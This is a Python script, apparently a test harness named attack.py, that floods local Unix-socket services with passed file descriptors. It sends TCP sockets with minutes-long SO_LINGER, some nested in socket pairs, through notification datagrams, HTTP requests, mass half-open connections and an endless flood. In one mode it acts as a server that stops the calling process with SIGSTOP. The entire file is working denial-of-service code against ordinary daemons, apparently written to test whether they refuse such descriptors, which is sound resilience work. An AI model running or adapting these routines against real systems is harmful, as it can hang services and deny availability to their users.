"""Passes descriptors whose last close takes minutes, and keeps their peers silent.

attack.py datagrams NAME|PATH   a few datagrams with one each
attack.py requests PATH         a few requests with one each, on one connection
attack.py crowd PATH            more connections than are kept, with one each and half a request
attack.py flood NAME|PATH       datagrams with a pipe each, without end
attack.py answer PATH PID       as a server, with each answer, while the process that asked is stopped

Says "sent N refused M" when all is done, the flood when it has begun.
"""
import array, errno, os, signal, socket, struct, sys, time

LINGER = 600
kept = []


def never_closes():
    """A TCP socket with unsent data, which lingers."""
    listener = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(listener.getsockname())
    kept.extend([listener, listener.accept()[0]])
    client.setblocking(False)
    try:
        while True:
            client.send(b"x" * 65536)
    except BlockingIOError:
        pass
    client.setblocking(True)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, LINGER))
    return client


def nested():
    """A unix socket in whose queue such a socket waits."""
    outer, inner = socket.socketpair()
    victim = never_closes()
    outer.sendmsg([b"x"], along(victim))
    victim.close()
    outer.close()
    return inner


def along(victim):
    return [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [victim.fileno()]))]


def address(name):
    return "\0" + name[1:] if name.startswith("@") else name


def connect(path):
    stream = socket.socket(socket.AF_UNIX)
    stream.settimeout(20)
    stream.connect(path)
    kept.append(stream)
    return stream


count = {"sent": 0, "refused": 0}


def counted(send):
    try:
        send()
        count["sent"] += 1
    except OSError as error:
        # EPIPE: hung up on, for what came before.
        if error.errno not in (errno.EPERM, errno.EPIPE, errno.ECONNRESET):
            raise
        count["refused"] += 1


def done():
    print("sent %(sent)d refused %(refused)d" % count, flush=True)
    while True:
        time.sleep(1)


REQUEST = b"GET /livez HTTP/1.1\r\nHost: x\r\n\r\n"
ANSWER = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
kind, target = sys.argv[1:3]
if kind == "datagrams":
    victims = [never_closes() for _ in range(4)] + [nested() for _ in range(2)]
    to = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    for victim in victims:
        counted(lambda: to.sendmsg([b"X=1"], along(victim), 0, address(target)))
        victim.close() if count["sent"] else kept.append(victim)
    done()
elif kind == "requests":
    victims = [never_closes() for _ in range(4)] + [nested() for _ in range(2)]
    # The urgent byte is in front: a read that does not look for it drops it.
    for urgent in (True, False):
        stream = connect(target)
        if urgent:
            counted(lambda: stream.sendmsg([b"G"], along(victims[0]), socket.MSG_OOB))
            counted(lambda: stream.send(b"GET /livez HTTP/1.1\r\n"))
        else:
            for victim in victims[1:]:
                counted(lambda: stream.sendmsg([REQUEST], along(victim)))
    for victim in victims:
        victim.close() if count["refused"] == 0 else kept.append(victim)
    done()
elif kind == "crowd":
    victims = [never_closes() for _ in range(8)]
    for number in range(100):
        stream = connect(target)
        counted(lambda: stream.sendmsg([b"GET /livez HTTP/1.1\r\n"], along(victims[number % 8])))
    for victim in victims:
        victim.close() if count["refused"] == 0 else kept.append(victim)
    done()
elif kind == "flood":
    to = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    reader, writer = socket.socketpair()
    begun = False
    while True:
        try:
            to.sendmsg([b"X=1"], along(writer), 0, address(target))
        except ConnectionError:
            # It has ended.
            done()
        if not begun:
            print("sent 1 refused 0", flush=True)
            begun = True
else:
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(target)
    listener.listen(16)
    pid = int(sys.argv[3])
    print("sent 0 refused 0", flush=True)
    while True:
        stream = listener.accept()[0]
        stream.recv(9999)
        victim = never_closes()
        os.kill(pid, signal.SIGSTOP)
        while open("/proc/%d/stat" % pid).read().rsplit(") ", 1)[1][0] != "T":
            time.sleep(0.001)
        counted(lambda: stream.sendmsg([ANSWER], along(victim)))
        victim.close() if count["sent"] else kept.append(victim)
        os.kill(pid, signal.SIGCONT)
        with open(target + ".log", "a") as log:
            log.write("sent %(sent)d refused %(refused)d\n" % count)
